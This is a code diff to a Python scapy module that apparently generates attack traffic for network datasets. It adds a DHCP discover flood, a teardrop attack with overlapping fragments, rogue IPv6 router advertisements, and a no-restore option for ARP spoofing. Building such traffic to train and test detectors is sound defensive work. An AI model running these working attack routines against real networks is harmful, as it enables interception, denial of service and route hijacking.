@@ -20,8 +20,11 @@ from typing import Any
 
 from scapy.arch import get_if_hwaddr
 from scapy.config import conf
-from scapy.layers.inet import IP, TCP
+from scapy.layers.dhcp import BOOTP, DHCP
+from scapy.layers.inet import IP, TCP, UDP
+from scapy.layers.inet6 import ICMPv6ND_RA, ICMPv6NDOptSrcLLAddr, IPv6
 from scapy.layers.l2 import ARP, Ether
+from scapy.utils import mac2str
 
 INTERFACE = "eth0"
 BROADCAST = "ff:ff:ff:ff:ff:ff"
@@ -148,13 +151,16 @@ def arp_spoof(arguments: argparse.Namespace) -> None:
     wire = conf.L2socket(iface=INTERFACE, promisc=False)
     own = get_if_hwaddr(INTERFACE)
     hosts = (arguments.target, arguments.victim)
-    macs = {address: _find(wire, own, arguments.source, address) for address in hosts}
+    if arguments.stand_ins:
+        macs = {address: mac_of(address) for address in hosts}
+    else:
+        macs = {address: _find(wire, own, arguments.source, address) for address in hosts}
     for _ in range(arguments.rounds):
         for claimed, receiver in (hosts, hosts[::-1]):
             claim = ARP(op=2, hwsrc=own, psrc=claimed, pdst=receiver, hwdst=macs[receiver])
             wire.send(Ether(src=own, dst=macs[receiver]) / claim)
         time.sleep(0.5)
-    for _ in range(3):
+    for _ in range(0 if arguments.stand_ins else 3):
         for claimed, receiver in (hosts, hosts[::-1]):
             truth = ARP(
                 op=2, hwsrc=macs[claimed], psrc=claimed, pdst=receiver, hwdst=macs[receiver]
@@ -201,6 +207,62 @@ def arp_changes(arguments: argparse.Namespace) -> None:
         time.sleep(0.3)
 
 
+def dhcp(arguments: argparse.Namespace) -> None:
+    """So many clients ask for a lease; with ``--server`` it is offered, taken and confirmed."""
+    wire = conf.L2socket(iface=INTERFACE, promisc=False)
+    dice = random.Random(arguments.clients)  # noqa: S311
+    for number in range(arguments.clients):
+        mac = "02:" + ":".join(f"{dice.randrange(256):02x}" for _ in range(5))
+        server, leased = arguments.server, f"192.0.2.{101 + number % 100}"
+
+        def say(
+            kind: str, *options: Any, mac: str = mac, number: int = number, answer: bool = False
+        ) -> None:
+            boot = BOOTP(op=2 if answer else 1, chaddr=mac2str(mac), xid=number, flags=0x8000)
+            ends = IP(src=server if answer else "0.0.0.0", dst="255.255.255.255")  # noqa: B023, S104
+            ports = UDP(sport=67, dport=68) if answer else UDP(sport=68, dport=67)
+            if answer:
+                boot.yiaddr = leased  # noqa: B023
+            source = get_if_hwaddr(INTERFACE) if answer else mac
+            told = DHCP(options=[("message-type", kind), *options, "end"])
+            wire.send(Ether(src=source, dst=BROADCAST) / ends / ports / boot / told)
+
+        say("discover")
+        if server:
+            say("offer", ("server_id", server), answer=True)
+            say("request", ("requested_addr", leased), ("server_id", server))
+            say("ack", ("server_id", server), answer=True)
+        time.sleep(arguments.pause)
+
+
+def teardrop(arguments: argparse.Namespace) -> None:
+    """Datagrams of two fragments, the second within the first."""
+    wire = conf.L2socket(iface=INTERFACE, promisc=False)
+    own = get_if_hwaddr(INTERFACE)
+    mac = _find(wire, own, arguments.source, arguments.target)
+    for number in range(1, 1 + arguments.rounds):
+        head = IP(src=arguments.source, dst=arguments.target, id=number, proto=17)
+        first, second = head.copy(), head.copy()
+        first.flags, second.frag = "MF", 3
+        whole = bytes(UDP(sport=4000, dport=53, len=36)) + bytes(28)
+        for part in (first / whole, second / bytes(4)):
+            wire.send(Ether(src=own, dst=mac) / part)
+        time.sleep(0.05)
+
+
+def router(arguments: argparse.Namespace) -> None:
+    """A router's advertisements; ``--hardware``: another's hardware address in them."""
+    wire = conf.L2socket(iface=INTERFACE, promisc=False)
+    mac = arguments.hardware or mac_of("192.0.2.1")
+    time.sleep(arguments.wait)
+    for _ in range(arguments.rounds):
+        said = ICMPv6ND_RA(prf=arguments.preference, routerlifetime=arguments.lifetime)
+        packet = IPv6(src=arguments.address, dst="ff02::1", hlim=255) / said
+        packet /= ICMPv6NDOptSrcLLAddr(lladdr=mac)
+        wire.send(Ether(src=mac, dst="33:33:00:00:00:01") / packet)
+        time.sleep(arguments.pause)
+
+
 def main(argv: Sequence[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="python -m datasets.recipe.spoof")
     commands = parser.add_subparsers(required=True)
@@ -219,7 +281,22 @@ def main(argv: Sequence[str] | None = None) -> int:
     command("mitnick", mitnick, "source", "unused", "trusted", "target")
     spoof = command("arp-spoof", arp_spoof, "source", "target", "victim")
     spoof.add_argument("--rounds", type=int, default=12)
+    # The hosts are not asked where they are, and not put right: nobody hears them.
+    spoof.add_argument("--stand-ins", action="store_true")
     command("arp-changes", arp_changes)
+    leases = command("dhcp", dhcp)
+    leases.add_argument("clients", type=int)
+    leases.add_argument("--server", default="")
+    leases.add_argument("--pause", type=float, default=0.01)
+    drop = command("teardrop", teardrop, "source", "target")
+    drop.add_argument("--rounds", type=int, default=20)
+    advertise = command("router", router, "address")
+    advertise.add_argument("--hardware", default="")
+    advertise.add_argument("--preference", type=int, default=0)
+    advertise.add_argument("--lifetime", type=int, default=1800)
+    advertise.add_argument("--rounds", type=int, default=3)
+    advertise.add_argument("--pause", type=float, default=0.2)
+    advertise.add_argument("--wait", type=float, default=0)
     arguments = parser.parse_args(argv)
     arguments.run(arguments)
     return 0
